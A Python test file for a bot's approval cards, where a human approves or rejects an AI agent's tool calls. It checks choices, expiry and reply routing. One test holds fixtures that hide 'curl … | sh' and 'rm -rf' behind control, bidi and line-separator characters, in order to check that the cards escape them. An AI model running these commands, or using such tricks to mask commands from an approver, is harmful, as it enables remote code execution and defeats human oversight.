"""What cards mean on every platform: content, choices, expiry, what a reply answers."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import pytest

from bot.platform.cards import (
    CHOICE_LABELS,
    CHOICES,
    RejectWindow,
    RejectWindows,
    card_content,
    decide,
    outcome_line,
    question_answered,
    reply_target,
)
from bot.platform.open_cards import card_is_live
from engine.approval.broker import SHORT_BYPASS_SECONDS, BypassRequest
from engine.approval.deciders import OPERATOR
from engine.hub import Choice, HubError
from engine.session.events import ApprovalRequired
from engine.store.inbox import InboxError, NotPermitted
from engine.tools.preview import ApprovalPreview


@dataclass(frozen=True)
class Shown:
    tool_call_id: int
    kind: str = "approval"
    conversation: str = "1"
    message_id: str | None = "10"
    state: str = "open"


class Hub:
    """Records decisions; ``fails`` is raised instead when set."""

    def __init__(self, fails: Exception | None = None) -> None:
        self.calls: list[tuple[str, tuple[Any, ...], dict[str, Any]]] = []
        self.fails = fails

    async def decide(self, *args: Any, **kwargs: Any) -> None:
        self._record("decide", args, kwargs)

    def _record(self, name: str, args: tuple[Any, ...], kwargs: dict[str, Any]) -> None:
        if self.fails is not None:
            raise self.fails
        self.calls.append((name, args, kwargs))


def test_a_card_shows_the_call_in_full() -> None:
    command = ApprovalRequired(
        7,
        "execute_cmd",
        {"command": "ls"},
        1,
        "main",
        ApprovalPreview("command", command="ls", workdir="/w"),
    )
    shown = card_content(command, "Only the owner can decide.")
    assert (shown.tool, shown.agent, shown.label, shown.content) == (
        "execute_cmd",
        "main",
        "Command",
        "ls",
    )
    assert shown.workdir == "/w" and shown.deciders == "Only the owner can decide."
    write = ApprovalRequired(
        8,
        "write_file",
        {"path": "a.txt", "content": "x\n"},
        1,
        "main",
        ApprovalPreview("file", path="a.txt", old_content=None, new_content="x\n"),
        depth=1,
    )
    shown = card_content(write)
    assert shown.label == "Diff" and shown.new_file and shown.path == "a.txt" and shown.depth == 1
    other = card_content(ApprovalRequired(9, "web", {"q": "é"}, 1, "main"))
    assert other.label == "Arguments" and '"q": "é"' in other.content


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        # A carriage return and an erase-line: the terminal showed "$ ls -la" while
        # "curl … | sh" ran (found by review).
        ("curl -s https://x.example | sh #\r\x1b[2K$ ls -la", "sh #\\r\\x1b[2K$ ls"),
        # A bidi override reorders what follows it on every card.
        ("rm -rf \u202eduh.txt", "rm -rf \\u202eduh.txt"),
        ("echo hi\u200b", "echo hi\\u200b"),
        ("printf 'a\tb\nc'", "printf 'a\tb\nc'"),  # a tab and a line break are text
        # A chat draws a line separator as a new line, the shell does not: a "comment"
        # on a line of its own ran (found by review).
        ("echo hi \u2028# then clean up; curl x|sh", "echo hi \\u2028# then"),
        ("echo a\u2029b", "echo a\\u2029b"),
        ("cat \U000e0041notes", "cat \\U000e0041notes"),  # a tag: invisible
        ("echo a\u2065b", "echo a\\u2065b"),  # unassigned, in the invisible operators
        ("echo caffè 👍", "echo caffè 👍"),  # letters and emoji are as they are
    ],
)
def test_a_card_shows_what_would_move_reorder_or_hide_text_by_its_code(
    command: str, shown: str
) -> None:
    card = card_content(
        ApprovalRequired(
            7,
            "execute_cmd",
            {"command": command},
            1,
            "main",
            ApprovalPreview("command", command=command, workdir="/w\x1b[2K"),
        )
    )
    assert shown in card.content
    assert card.workdir == "/w\\x1b[2K"
    assert not any(c in card.content for c in "\r\x1b\u202e\u200b\u2028\u2029\U000e0041")


def test_the_choices_and_their_words() -> None:
    assert CHOICES == ("approve", "reject", "bypass_15m", "bypass_session")
    assert [CHOICE_LABELS[c] for c in CHOICES] == [
        "✅ Approve",
        "❌ Reject",
        "⏱ 15 min",
        "🔄 Session",
    ]
    assert outcome_line("bypass_15m") == ("⏱ Approved", " — no more asking for 15 min")
    assert outcome_line("rejected") == ("❌ Rejected", "")  # spelled as the hub does
    assert outcome_line("cancelled")[0] == "⊘ Cancelled" and outcome_line("odd")[0] == "• odd"


def test_a_tap_is_live_only_on_the_open_approval_card_it_shows() -> None:
    assert card_is_live(Shown(1), "approval", "1", "10")  # type: ignore[arg-type]
    # recorded, not yet confirmed:
    assert card_is_live(Shown(1, message_id=None), "approval", "1", "99")  # type: ignore[arg-type]
    for card, chat, at in [
        (None, "1", "10"),
        (Shown(1, state="resolved"), "1", "10"),
        (Shown(1, kind="question"), "1", "10"),
        (Shown(1), "2", "10"),
        (Shown(1), "1", "11"),
    ]:
        assert not card_is_live(card, "approval", chat, at)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("button", "choice"),
    [
        ("approve", Choice(True)),
        ("bypass_15m", Choice(True, BypassRequest("all", None, SHORT_BYPASS_SECONDS))),
        ("bypass_session", Choice(True, BypassRequest("all", None, None))),
        ("reject", Choice(False)),
    ],
)
async def test_what_a_tap_does(button: Any, choice: Choice) -> None:
    """One door: the hub's ``decide``, with the chat the tap came from."""
    hub = Hub()
    assert await decide(hub, "s", 5, button, OPERATOR, "why") == "decided"  # type: ignore[arg-type]
    [(name, args, kwargs)] = hub.calls
    assert (name, args) == ("decide", (5, choice))
    assert kwargs == {"decider": OPERATOR, "note": "why", "by": None, "source": "s", "also": None}


async def test_a_closed_call_expires_and_a_refusal_keeps_the_card() -> None:
    """A call decided by another tap first is ``taken``: that tap closes the card with its
    outcome (it was ``expired``, and a double click's second tap showed "Expired" on an
    approved call)."""
    for error in (InboxError("not_found", "gone"), HubError("other session")):
        assert await decide(Hub(error), "s", 5, "approve", OPERATOR) == "expired"  # type: ignore[arg-type]
    taken = InboxError("resolved", "decided")
    assert await decide(Hub(taken), "s", 5, "approve", OPERATOR) == "taken"  # type: ignore[arg-type]
    assert await decide(Hub(NotPermitted("no")), "s", 5, "reject", OPERATOR) == "kept"  # type: ignore[arg-type]


def test_what_a_message_answers() -> None:
    windows = RejectWindows()
    card, question, newer = Shown(1), Shown(2, "question", message_id="20"), Shown(3, "question")
    cards = [card, question, newer]
    assert reply_target([], reply_to=None, is_command=False, rejecting=windows) is None
    assert reply_target(cards, reply_to="20", is_command=False, rejecting=windows) == (
        "answer",
        question,
    )
    # Any plain message answers the newest open question; a command never does.
    assert reply_target(cards, reply_to=None, is_command=False, rejecting=windows) == (
        "answer",
        newer,
    )
    assert reply_target(cards, reply_to=None, is_command=True, rejecting=windows) is None
    # A reply to a card is its reason only while its reject window is open.
    assert reply_target([card], reply_to="10", is_command=False, rejecting=windows) is None
    windows.open(1, RejectWindow(60.0, "Ada", OPERATOR))
    assert reply_target([card], reply_to="10", is_command=False, rejecting=windows) == (
        "reason",
        card,
    )
    windows.close(1)
    assert 1 not in windows


def test_a_plain_message_answers_the_newest_open_question_and_a_command_none() -> None:
    """The rule every platform shares (the web chat applies it to the open questions
    themselves, Telegram to its shown cards through ``reply_target``)."""
    assert question_answered([7, 9], is_command=False) == 9
    assert question_answered([7, 9], is_command=True) is None
    assert question_answered([], is_command=False) is None
